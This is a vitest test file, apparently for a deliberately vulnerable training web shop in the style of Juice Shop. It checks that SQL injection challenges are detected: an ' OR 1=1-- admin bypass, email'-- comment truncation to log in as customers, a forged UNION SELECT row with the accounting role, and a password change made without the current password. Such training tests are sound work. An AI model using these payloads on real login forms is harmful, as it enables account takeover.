import { describe, expect, it } from 'vitest'
import { decodeJwt } from 'jose'
import { createTestShop } from '../../test-support/test-shop.js'

const t = createTestShop()

interface TokenData { data: { id: number, email: string, role: string } }

/** Reads every review of the first products and finds an author whose words match. */
async function reviewAuthor (matches: RegExp): Promise<string> {
  for (let id = 1; id <= 40; id++) {
    const res = await t.api.get(`/rest/products/${id}/reviews`)
    const review = (res.body.data ?? []).find((r: { message: string }) => matches.test(r.message))
    if (review) return review.author as string
  }
  throw new Error(`No review matches ${matches}`)
}

describe('loginAdminSqliChallenge', () => {
  it('is not solved by the admin logging in with the real password', async () => {
    await t.login(t.email('admin'), 'qwerty123')
    expect(await t.solved('loginAdminSqliChallenge')).toBe(false)
  })

  it("is solved when ' OR 1=1-- logs the player in as the admin", async () => {
    const res = await t.api.post('/rest/user/login').send({ email: "' OR 1=1--", password: 'whatever' })
    expect(res.status).toBe(200)
    const payload = decodeJwt(res.body.authentication.token) as unknown as TokenData
    expect(payload.data).toMatchObject({ email: t.email('admin'), role: 'admin' })
    expect(await t.solved('loginAdminSqliChallenge')).toBe(true)
  })
})

describe('loginCustomerSqliChallenge', () => {
  it("follows Oskar's reviews to his address and cuts his password check off", async () => {
    const oskar = await reviewAuthor(/Pepper/)
    expect(oskar).toBe(t.email('oskar.lindqvist'))
    expect((await t.api.post('/rest/user/login').send({ email: oskar, password: 'guess' })).status).toBe(401)
    expect(await t.solved('loginCustomerSqliChallenge')).toBe(false)

    const res = await t.api.post('/rest/user/login').send({ email: `${oskar}'--`, password: 'guess' })
    expect(res.status).toBe(200)
    expect((decodeJwt(res.body.authentication.token) as unknown as TokenData).data.email).toBe(oskar)
    expect(await t.solved('loginCustomerSqliChallenge')).toBe(true)
  })
})

describe('ghostLoginChallenge', () => {
  it('cannot log in to the closed account with its password', async () => {
    const res = await t.api.post('/rest/user/login').send({ email: t.email('walter.price'), password: 'Farewell-Parcel-Tape-90' })
    expect(res.status).toBe(401)
  })

  it("follows Walter's farewell review and logs in past the soft-delete check", async () => {
    const walter = await reviewAuthor(/closing my account/)
    const res = await t.api.post('/rest/user/login').send({ email: `${walter}'--`, password: 'x' })
    expect(res.status).toBe(200)
    expect(res.body.authentication.umail).toBe(walter)
    expect(await t.solved('ghostLoginChallenge')).toBe(true)
  })
})

describe('phantomAccountantChallenge', () => {
  const columns = (email: string, role: string): string =>
    `' UNION SELECT 9999,'auditor','${email}','x','${role}','','127.0.0.1',NULL,'','',1,0,'','',NULL--`

  it('logs a made-up row in cleanly, with no basket and no new rows', async () => {
    const db = t.shop.registry.get().db
    const count = (table: string): number => (db.prepare(`SELECT COUNT(*) AS n FROM ${table}`).get() as { n: number }).n
    const before = { users: count('Users'), baskets: count('Baskets') }

    const customer = await t.api.post('/rest/user/login').send({ email: columns('auditor@juice.shop.test', 'customer'), password: 'x' })
    expect(customer.status).toBe(200)
    expect(await t.solved('phantomAccountantChallenge')).toBe(false)

    const res = await t.api.post('/rest/user/login').send({ email: columns('auditor@juice.shop.test', 'accounting'), password: 'x' })
    expect(res.status).toBe(200)
    expect(res.body.authentication.bid).toBeNull()
    const payload = decodeJwt(res.body.authentication.token) as unknown as TokenData
    expect(payload.data).toMatchObject({ id: 9999, email: 'auditor@juice.shop.test', role: 'accounting' })
    expect({ users: count('Users'), baskets: count('Baskets') }).toEqual(before)
    expect(await t.solved('phantomAccountantChallenge')).toBe(true)
  })

  it('answers 401, not 500, for a UNION row without an e-mail', async () => {
    const res = await t.api.post('/rest/user/login')
      .send({ email: "' UNION SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL--", password: 'x' })
    expect(res.status).toBe(401)
  })
})

describe('changePasswordNoCurrentChallenge', () => {
  it("logs in as Mateo by injection and changes his password without the current one", async () => {
    const mateo = t.email('mateo.rossi')
    const { token } = (await t.api.post('/rest/user/login').send({ email: `${mateo}'--`, password: 'x' })).body.authentication as { token: string }
    const auth = { Authorization: `Bearer ${token}` }
    expect((await t.api.get('/rest/user/change-password').set(auth).query({ current: 'guess', new: 'Taken-Over-1', repeat: 'Taken-Over-1' })).status).toBe(401)
    expect((await t.api.get('/rest/user/change-password').set(auth).query({ current: '', new: 'Taken-Over-1', repeat: 'Taken-Over-1' })).status).toBe(400)
    expect(await t.solved('changePasswordNoCurrentChallenge')).toBe(false)

    const res = await t.api.get('/rest/user/change-password').set(auth).query({ new: 'Taken-Over-1', repeat: 'Taken-Over-1' })
    expect(res.status).toBe(200)
    await t.login(mateo, 'Taken-Over-1')
    expect(await t.solved('changePasswordNoCurrentChallenge')).toBe(true)
  })
})
